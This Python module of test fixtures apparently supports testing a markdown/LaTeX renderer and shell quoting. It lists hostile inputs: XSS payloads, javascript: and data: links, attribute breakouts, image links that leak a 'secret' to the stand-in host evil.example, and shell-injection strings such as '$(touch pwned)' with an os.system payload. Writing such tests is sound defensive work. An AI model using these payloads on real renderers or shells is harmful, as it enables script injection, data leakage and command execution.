"""Texts that try to become code: in a question, in an answer, in a prompt that is pasted into a shell."""

HOSTILE_QUESTION = (
    "<img src=x onerror=alert(1)><script>alert(2)</script> ${alert(3)} {{alert(4)}} **bold** `code` $x$"
)


HOSTILE_ANSWERS = [
    "<script>x</script>",
    "See ``` <img src=https://evil.example/x>",
    r"\`<img src=x onerror=alert(1)>`",
    "``` `` ` `` <b>hi</b> ",
    "`$` $ <img src=x> `",
    "```\n$\n```\n<img src=x>\n```\n$\n```",
    "~~~ ```\n~~~\n<img src=x>",
    "    code\n\n<img src=x>",
    "- ```\n<img src=x>\n```",
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/?q=secret",
    "[x](javascript:alert(1)) <javascript:alert(1)>",
    "[x](data:text/html,<script>alert(1)</script>)",
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](https://a.example "title\\" onmouseover=\\"alert(1)")',
    "[a [b](http://b.example) c](http://c.example) [<http://a.example>](http://b.example)",
    "$<img src=x>$ \\(<img src=x>\\) \\[<img src=x>\\]",
    r"$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{x}$ $\class{wide}{x}$ $\text{<img src=x>}$",
    r"$\unicode{x3c}img src=x\unicode{x3e}$ $\text{&lt;img src=x&gt;}$ $\text{&#xDFFF;}$",
    r"$\rule{99999em}{99999em}$ $\hspace{-99em}x$ $\llap{over}$ $\raise99em x$ $\color{white}{x}$",
    r"$\def\a{\b\b}\def\b{\a\a}\a$",
    "<!-- --><img src=x><!-- -->",
    "&lt;img src=x&gt; &#60;img src=x&#62; &#xfdd0;",
    "| a |\n|---|\n| `<img src=x> |\n",
    '```"><img src=x>\ncode',
    "```mermaid\ngraph TD\nA-->B\n```",
    "```html\n<img src=x onerror='alert(1)'>\n```",
    "\ufdd0\ufde0<img src=x>\ufdd1 \ufdd2 \ud800 \0",
    "<sup onclick=alert(1)>x</sup> <sup><img src=x></sup> <br onload=alert(1)> <br/onload=alert(1)> </br>",
    "x<sup>`</sup><img src=x>` <sub>**<img src=x></sub>**",
    "| <sup> | <img src=x> |\n|--|--|\n| </sup><br> | <sub><script>x</script></sub> |",
    "\\begin{align}<img src=x>\\end{align} \\begin{x}<script>alert(1)</script>\\end{x} \\begin{align}&<img src=x>",
    "\\begin{itemize}\n<img src=x>\n\\end{itemize}",
    '```c "><img src=x onerror=alert(1)>\ncode\n```',
    "[x](https://a.example '\"><img src=x onerror=alert(1)>')",
    '<b>**注意：**</b>007. <img src="x">\n007. <img src=x>',
    "%%%LATEX_BLOCK_0%%% \\(<img src=x>\\)",
]


HOSTILE_PROMPTS = (
    "'; touch pwned; '",
    '"; touch pwned; "',
    "$(touch pwned) `touch pwned` ${IFS} $HOME !! !touch",
    "\nEOF\ntouch pwned\nEOF\n'\"'\"'",
    "'''\nimport os; os.system('touch pwned')\n'''",
    '"""\nimport os; os.system("touch pwned")\n"""',
    "{0} {text} %s %d \\n \\u0041 \\' \\\" \\",
    "\x1b[201~touch pwned\r\n\x9b201~\x7f\x08\x00",
    "\u202eelif\u2066 half \ud800 of \udfff it \u2028 line",
    "</script><img src=x onerror=alert(1)><|im_end|><IMG_CONTEXT>",
    "data:image/png;base64,\ud800image-1.png\ud800",
    "",
    "a" * 200_000,
)
